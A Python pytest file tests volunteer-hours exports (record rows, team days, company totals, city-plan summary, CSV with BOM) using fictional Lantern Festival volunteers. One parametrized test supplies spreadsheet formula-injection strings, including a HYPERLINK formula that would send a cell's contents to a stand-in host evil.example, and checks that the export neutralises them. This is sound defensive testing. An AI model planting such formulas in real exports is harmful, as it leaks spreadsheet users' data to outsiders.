"""Exports built from derived hours: record-book lines, team days, company hours, the city-plan figures, CSV."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from checkin.hours.derive import derive_hours
from checkin.hours.exports import (
    BOM,
    COMPANY_HEADER,
    KINDS,
    RECORD_HEADER,
    SUMMARY_HEADER,
    TEAM_HEADER,
    Member,
    company_rows,
    csv_bytes,
    event_summary,
    hours_text,
    record_rows,
    summary_json,
    summary_rows,
    table,
    team_days,
    team_rows,
    write_csv,
)
from checkin.hours.model import Correction, HoursPolicy, LogScan, Shift, VolunteerHours

TZ = ZoneInfo("Asia/Taipei")
D24, D25 = date(2024, 2, 24), date(2024, 2, 25)


def t(day: int, hh: int, mm: int = 0) -> datetime:
    return datetime(2024, 2, day, hh, mm, tzinfo=TZ)


SHIFTS = [Shift("S24", "Z1", t(24, 9), t(24, 17)), Shift("S25", "Z1", t(25, 9), t(25, 17))]


def worked(vid: str, *spans: tuple[int, int, int], corrections: list[Correction] | None = None) -> VolunteerHours:
    """(day, from hour, to hour) spans; a to-hour of 0 means no check-out."""
    scans = []
    for day, start, end in spans:
        scans.append(LogScan(f"{vid}-{day}-in", vid, t(day, start), "checked_in", "G", "Z1"))
        if end:
            scans.append(LogScan(f"{vid}-{day}-out", vid, t(day, end), "checked_out", "G", "Z1"))
    return derive_hours(scans, SHIFTS, HoursPolicy(), corrections or [], volunteer_id=vid)


MEMBERS = {
    "V1": Member("王小明", "RB-1", "觀光傳播局", "台灣燈會 交通志工隊", "T1", "交通志工隊", None, "senior", 1950),
    "V2": Member("陳美玲", "RB-2", "觀光傳播局", "台灣燈會 交通志工隊", "T1", "交通志工隊", "台積電", "corporate", 1985),
    "V3": Member("林大同", None, "社會局", "台灣燈會 服務台志工隊", "T2", "服務台志工隊", "台積電", "corporate", 1990),
    "V4": Member("張家豪", "RB-4", "社會局", "台灣燈會 服務台志工隊", "T2", "服務台志工隊", "中華電信", "corporate"),
}


@pytest.fixture
def results() -> list[VolunteerHours]:
    return [
        worked("V1", (24, 9, 17), (25, 9, 12)),  # 8 h + 3 h
        worked("V2", (24, 9, 13)),  # 4 h
        worked("V3", (24, 10, 0)),  # forgot to check out: closed at the shift's end, 7 h, an open anomaly
        worked("V4"),  # nothing credited
    ]


def test_hours_text() -> None:
    assert [hours_text(m) for m in (0, 30, 60, 90, 15, 20, 480)] == ["0", "0.5", "1", "1.5", "0.25", "0.33", "8"]


def test_record_rows_one_line_per_volunteer_and_day(results: list[VolunteerHours]) -> None:
    assert record_rows(results, MEMBERS) == [
        ("林大同", "", "2024-02-24", "7", "台灣燈會 服務台志工隊", "社會局"),
        ("王小明", "RB-1", "2024-02-24", "8", "台灣燈會 交通志工隊", "觀光傳播局"),
        ("陳美玲", "RB-2", "2024-02-24", "4", "台灣燈會 交通志工隊", "觀光傳播局"),
        ("王小明", "RB-1", "2024-02-25", "3", "台灣燈會 交通志工隊", "觀光傳播局"),
    ]


def test_a_correction_changes_the_record_rows() -> None:
    fix = Correction("C1", "change", "V1-24-in", None, t(24, 12), "left at noon", "U1", t(26, 9))
    assert [r[3] for r in record_rows([worked("V1", (24, 9, 17), corrections=[fix])], MEMBERS)] == ["3"]
    void = Correction("C2", "void", "V1-24-in", None, None, "card lent", "U1", t(26, 9))
    assert record_rows([worked("V1", (24, 9, 17), corrections=[void])], MEMBERS) == []


def test_an_unknown_volunteer_is_listed_by_id() -> None:
    assert record_rows([worked("V9", (24, 9, 10))], MEMBERS)[0][:2] == ("V9", "")


def test_team_days_count_people_hours_open_anomalies_and_approval(results: list[VolunteerHours]) -> None:
    days = team_days(results, MEMBERS, approved={("T1", D24)})
    assert [(d.team_id, d.day, d.volunteers, d.minutes, d.open_anomalies, d.approved) for d in days] == [
        ("T1", D24, 2, 720, 0, True),  # by team name, then day
        ("T1", D25, 1, 180, 0, False),
        ("T2", D24, 1, 420, 1, False),
    ]
    assert team_rows(results, MEMBERS, {("T1", D24)})[0] == ("交通志工隊", "觀光傳播局", "2024-02-24", "2", "12", "0", "是")


def test_a_resolved_anomaly_is_not_open() -> None:
    fix = Correction("C1", "change", "V3-24-in", None, t(24, 15), "paper check-out", "U1", t(26, 9))
    (day,) = team_days([worked("V3", (24, 10, 0), corrections=[fix])], MEMBERS)
    assert (day.minutes, day.open_anomalies) == (300, 0)


def test_company_rows_for_csr_reports(results: list[VolunteerHours]) -> None:
    more = worked("V3", (24, 10, 12), (25, 9, 17))
    assert company_rows(results, MEMBERS) == [("台積電", "2", "2", "11")]  # 中華電信's volunteer served nothing
    assert company_rows([results[1], more], MEMBERS) == [("台積電", "2", "3", "14")]


def test_event_summary_city_plan_figures(results: list[VolunteerHours]) -> None:
    summary = event_summary(results, MEMBERS, 2024)
    assert (summary.volunteers, summary.total_minutes, summary.seniors, summary.unknown_age) == (3, 1320, 1, 0)
    assert summary.average_hours == pytest.approx(22 / 3)
    assert summary_json(summary) == {
        "volunteers": 3, "total_hours": 22.0, "average_hours": 7.33, "seniors": 1, "senior_share": 0.3333,
        "unknown_age": 0, "service_days": 4, "insured_days": 0, "insurance_coverage": 0.0,
        "by_category": {"corporate": {"volunteers": 2, "hours": 11.0},
                                          "senior": {"volunteers": 1, "hours": 11.0}},
    }
    rows = summary_rows(summary)
    assert rows[:6] == [("志工人數", "", "3"), ("總服務時數", "", "22"), ("平均每人服務時數", "", "7.33"),
                        ("65歲以上志工人數", "", "1"), ("65歲以上志工比例", "", "33.3%"), ("年齡不詳人數", "", "0")]
    assert ("類別服務時數", "企業志工", "11") in rows


def test_csv_has_a_bom_and_reads_back_in_chinese(results: list[VolunteerHours], tmp_path: Path) -> None:
    data = csv_bytes(RECORD_HEADER, record_rows(results, MEMBERS))
    assert data[:3] == BOM == b"\xef\xbb\xbf"
    assert b"\r\n" in data  # spreadsheets expect CRLF
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(RECORD_HEADER) and rows[2][0] == "王小明"
    path = tmp_path / "r.csv"
    assert write_csv(path, RECORD_HEADER, record_rows(results, MEMBERS)) == 4
    with open(path, encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == rows


def test_a_comma_or_quote_in_a_name_stays_in_its_cell() -> None:
    data = csv_bytes(("a", "b"), [('王, "小明"', "x")])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) == [["a", "b"], ['王, "小明"', "x"]]


def test_table_by_name(results: list[VolunteerHours]) -> None:
    headers = {kind: table(kind, results, MEMBERS, set(), 2024)[0] for kind in KINDS}
    assert headers == {"records": RECORD_HEADER, "teams": TEAM_HEADER, "companies": COMPANY_HEADER,
                       "summary": SUMMARY_HEADER}
    with pytest.raises(ValueError, match="export must be one of"):
        table("everything", results, MEMBERS, set(), 2024)


def test_the_same_results_in_any_order_give_the_same_exports(results: list[VolunteerHours]) -> None:
    shuffled = list(reversed(results))
    for kind in KINDS:
        assert table(kind, results, MEMBERS, {("T1", D24)}, 2024) == table(kind, shuffled, MEMBERS, {("T1", D24)}, 2024)


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tx", "\r=1", "-", "=1"])
def test_a_cell_starting_with_a_formula_character_is_text(text: str) -> None:
    member = Member(text, "RB-1", text, text, team_id="T1", team=text, company=text)
    results = [worked("V1", (24, 9, 17))]
    for kind in KINDS:
        header, rows = table(kind, results, {"V1": member}, set(), 2024)
        read = list(csv.reader(io.StringIO(csv_bytes(header, rows).decode("utf-8-sig"))))
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in read for cell in line), kind
    (line,) = list(csv.reader(io.StringIO(csv_bytes(["a"], [[text]]).decode("utf-8-sig"))))[1:]
    assert line == ["'" + text]  # the text itself is kept, behind the quote


def test_numbers_written_by_the_export_stay_numbers() -> None:
    read = list(csv.reader(io.StringIO(csv_bytes(["n"], [["-0.5"], ["12.5%"], ["-3"], ["7"]]).decode("utf-8-sig"))))
    assert read[1:] == [["-0.5"], ["12.5%"], ["-3"], ["7"]]
